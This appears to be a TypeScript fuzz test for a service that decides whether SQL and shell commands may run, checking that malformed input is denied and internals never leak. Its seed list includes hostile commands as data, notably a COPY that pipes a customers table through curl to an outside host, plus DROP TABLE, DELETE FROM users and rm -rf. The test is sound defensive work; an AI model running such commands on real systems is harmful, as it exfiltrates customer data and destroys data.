/** Whatever is sent: no 5xx, no allow for what did not parse, and nothing of the inside in an answer. */
import { randomBytes } from 'node:crypto'
import * as fc from 'fast-check'
import { seeded } from '../../bench/bodies.ts'
import { testService, type TestService } from '../support/service.ts'

let running: TestService
beforeAll(async () => {
  running = await testService()
})
afterAll(() => running.close())

/** What only the service knows: its files, its statements, its stack. */
const inside = /\/src\/|\/dist\/|\.[jt]s:\d+|INSERT INTO|FROM ledger_|\n {4}at /

/** Sends a body; throws unless the answer is one that a caller may be given. */
async function send(sent: string): Promise<number> {
  const response = await running.service.app.inject({
    method: 'POST',
    url: '/v1/decide',
    payload: sent,
    headers: { authorization: `Bearer ${running.tokens.service}`, 'content-type': 'application/json' },
  })
  const { statusCode: status, body } = response
  const found = status >= 500 ? `status ${status}` : inside.exec(body)?.[0]
  if (found !== undefined) throw new Error(`${found} for ${JSON.stringify(sent)}: ${body.slice(0, 300)}`)
  if (status === 200) {
    const { verdict, intent } = response.json<{ verdict: string; intent: { parse: { ok: boolean } } }>()
    if (!intent.parse.ok && verdict !== 'deny') throw new Error(`not denied: ${JSON.stringify(sent)}`)
  }
  return status
}

test('10,000 random byte strings', async () => {
  const random = seeded(11)
  for (let turn = 0; turn < 10_000; turn += 20) {
    await Promise.all(
      Array.from({ length: 20 }, async () => {
        const sent = randomBytes(Math.floor(random() * 200)).toString('latin1')
        expect(await send(sent)).toBe(400)
      }),
    )
  }
}, 120_000)

const texts = [
  'SELECT id, status FROM orders WHERE id = 42',
  'WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d',
  "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'x'); END $$",
  "COPY customers TO PROGRAM 'curl -T - https://x.example'",
  'UPDATE jobs SET a = 1 WHERE id IN (SELECT id FROM jobs LIMIT 10)',
  'rm -rf ./node_modules && npm ci',
  "sudo -u postgres psql -c 'SELECT 1'",
  'for f in *.log; do gzip "$f"; done',
  'cat <<EOF > x\n$(date)\nEOF',
  'find . -name "*.tmp" -exec rm {} +',
] as const

/** A valid body whose text, or whose JSON, had a few characters removed, doubled, swapped or replaced. */
function mutant(random: () => number): string {
  const text = texts[Math.floor(random() * texts.length)] ?? ''
  const isShell = /^(rm|sudo|for|cat|find)/.test(text)
  const body = (mutated: string): string =>
    JSON.stringify({
      actor: { id: 'service:x' },
      command: isShell
        ? { language: 'shell', dialect: random() < 0.5 ? 'bash' : 'sh', text: mutated }
        : { language: 'sql', dialect: 'postgresql', text: mutated },
      target: { system: isShell ? 'host' : 'postgresql', id: 'a', environment: 'production' },
    })
  return random() < 0.6 ? body(changed(text, random)) : changed(body(text), random)
}

function changed(text: string, random: () => number): string {
  const pieces = Array.from(text)
  for (let turn = 1 + Math.floor(random() * 4); turn > 0; turn--) {
    const at = Math.floor(random() * pieces.length)
    const kind = random()
    if (kind < 0.3) pieces.splice(at, 1)
    else if (kind < 0.5) pieces.splice(at, 0, pieces[at] ?? '')
    else if (kind < 0.8)
      pieces.splice(at, 1, '\'"$`;|&()<>{}[]\\*?#~ \n\0é💥-/%'.charAt(Math.floor(random() * 34)))
    else pieces.splice(at, 0, ...pieces.slice(Math.floor(random() * pieces.length)).slice(0, 12))
  }
  return pieces.join('')
}

test('10,000 mutated bodies, of which many are valid', async () => {
  const random = seeded(12)
  let valid = 0
  for (let turn = 0; turn < 10_000; turn += 20) {
    await Promise.all(
      Array.from({ length: 20 }, async () => {
        if ((await send(mutant(random))) === 200) valid++
      }),
    )
  }
  expect(valid).toBeGreaterThanOrEqual(2_000)
}, 240_000)

test('queries of evidence are answered or refused, never broken', async () => {
  const names = [
    'actor',
    'verdict',
    'from',
    'to',
    'q',
    'limit',
    'cursor',
    'order',
    'proof',
    'zzz',
    'category',
    'kind',
  ]
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.tuple(fc.constantFrom(...names), fc.string({ maxLength: 30 })), { maxLength: 4 }),
      async (pairs) => {
        const query = new URLSearchParams(pairs).toString()
        expect([200, 400]).toContain((await running.get(`/v1/evidence?${query}`)).status)
      },
    ),
    { numRuns: 300 },
  )
}, 60_000)
